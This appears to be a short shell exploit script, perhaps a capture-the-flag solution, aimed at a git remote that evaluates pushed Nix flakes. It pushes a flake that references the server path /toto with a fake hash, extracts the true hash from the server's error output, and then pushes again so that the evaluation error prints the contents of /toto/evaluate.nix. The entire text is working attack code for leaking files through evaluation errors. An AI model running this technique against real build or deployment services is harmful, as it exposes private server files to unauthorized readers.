# says: got …
# Who knows the hash of a folder of the cell may read it in a flake: a first push has nix name it.
flake() {
    cat > flake.nix <<NIX
{ outputs = _: { nixosConfigurations.x.config.system.build.toplevel = throw ("read " + builtins.readFile ("\${
    builtins.fetchTree { type = "path"; path = "/toto"; narHash = "$1"; }}/evaluate.nix")); }; }
NIX
    git add . && git commit -qm "hash $1"
}
flake sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
said=$(git push -o plan -o wait toto +HEAD:refs/heads/hash 2>&1)
echo "$said"
flake "$(echo "$said" | sed -n "s/.*got '\(sha256-[^']*\)'.*/\1/p" | head -n 1)"
git push $OPTIONS toto HEAD:$REF
